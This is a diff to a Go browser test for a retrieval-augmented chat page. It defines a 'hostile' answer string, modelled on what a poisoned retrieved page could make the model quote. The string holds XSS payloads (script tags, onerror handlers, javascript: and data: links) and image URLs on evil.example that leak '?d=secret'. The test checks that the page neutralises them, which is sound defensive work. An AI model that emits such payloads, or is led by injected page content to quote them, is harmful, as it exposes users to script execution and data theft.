@@ -22,9 +22,12 @@ import (
 
 const (
 	tuitionURL = "https://www.lakeshore-poly.example/tuition/"
-	// hostile is what a poisoned page could make an answer quote.
-	hostile = `<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"> [click](javascript:window.__pwned=3) ` +
-		`![i](https://evil.example/p.png?d=secret) <img src="https://evil.example/q.png?d=secret">`
+	// hostile is what a poisoned page could make an answer quote: raw HTML blocks, and (in paragraphs of their own,
+	// so that markdown parses them) a script link and remote images.
+	hostile = "<script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2\">\n\n" +
+		"See [click](javascript:window.__pwned=3) and [data](data:text/html,<script>parent.__pwned=4</script>).\n\n" +
+		"![i](https://evil.example/p.png?d=secret)\n\n" +
+		"Inline <img src=\"https://evil.example/q.png?d=secret\" onerror=\"window.__pwned=5\"> too."
 )
 
 // pageModel answers the chat page's questions: a slow answer to stop, a hostile one, else a cited answer.
@@ -87,7 +90,10 @@ func TestChatPageBrowser(t *testing.T) {
 
 	// The online fake's requests, for the script to check the history it sent and that Stop closed the call.
 	fakeLog := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
-		type message struct{ Role, Content string }
+		type message struct {
+			Role    string `json:"role"`
+			Content string `json:"content"`
+		}
 		type entry struct {
 			Path     string    `json:"path"`
 			Messages []message `json:"messages"`
@@ -106,7 +112,11 @@ func TestChatPageBrowser(t *testing.T) {
 	}))
 	t.Cleanup(fakeLog.Close)
 
-	shots := t.TempDir()
+	// The screenshots are the test's artifact: kept after it ends, in the system's temporary directory.
+	shots, err := os.MkdirTemp("", "ragproxy-chatpage-")
+	if err != nil {
+		t.Fatal(err)
+	}
 	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
 	defer cancel()
 	cmd := exec.CommandContext(ctx, "node", "chatpage.mjs")
